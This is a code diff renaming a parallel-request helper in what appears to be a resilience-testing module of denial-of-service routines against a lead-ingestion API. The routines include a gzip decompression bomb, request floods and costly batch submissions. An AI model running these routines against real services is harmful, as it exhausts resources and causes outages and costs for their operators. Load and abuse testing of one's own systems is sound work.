@@ -41,7 +41,7 @@ async def post_compressed(target: AttackTarget) -> None:
     packer, body = zlib.compressobj(1, wbits=31), b""
     while len(body) < 3 << 20:
         body += packer.compress(bytes(16 << 20))
-    await _repeat_in_parallel(
+    await repeat_in_parallel(
         40, lambda session: session.post(target.inbound_url, data=body, headers={"Content-Encoding": "gzip"})
     )
 
@@ -52,7 +52,7 @@ async def read_metrics(target: AttackTarget) -> None:
         for number in range(2000):
             with suppress(*CONNECTION_ERRORS):
                 await (await session.request(f"M{number}", f"{target.base_url}/api/v1/leads")).release()
-    await _repeat_in_parallel(16, lambda session: session.get(target.metrics_url))
+    await repeat_in_parallel(16, lambda session: session.get(target.metrics_url))
 
 
 async def post_phones(target: AttackTarget) -> None:
@@ -60,7 +60,7 @@ async def post_phones(target: AttackTarget) -> None:
     batch = [{"email": f"p{number}@attack.example.com", "phone": COSTLY_PHONE} for number in range(1000)]
     url = target.inbound_url.replace("?", "/batch?")
     headers = {**target.auth_headers, "Prefer": "respond-async"}
-    await _repeat_in_parallel(1, lambda session: session.post(url, json=batch, headers=headers), pause=1.0)
+    await repeat_in_parallel(1, lambda session: session.post(url, json=batch, headers=headers), pause=1.0)
 
 
 async def run_templates(target: AttackTarget) -> None:
@@ -80,7 +80,7 @@ async def run_templates(target: AttackTarget) -> None:
         lead = {"email": next(emails), "custom_fields": fields}
         return session.post(target.inbound_url, json=lead, headers=headers)
 
-    await _repeat_in_parallel(2, post, pause=0.2)
+    await repeat_in_parallel(2, post, pause=0.2)
 
 
 async def stream_informational(target: AttackTarget) -> None:
@@ -112,7 +112,7 @@ ATTACKS_BY_NAME: dict[str, Callable[[AttackTarget], Coroutine[Any, Any, None]]] 
 }
 
 
-async def _repeat_in_parallel(
+async def repeat_in_parallel(
     connections: int, request: Callable[[aiohttp.ClientSession], Awaitable[aiohttp.ClientResponse]], pause: float = 0
 ) -> None:
     """Send requests over that many connections until this process ends."""
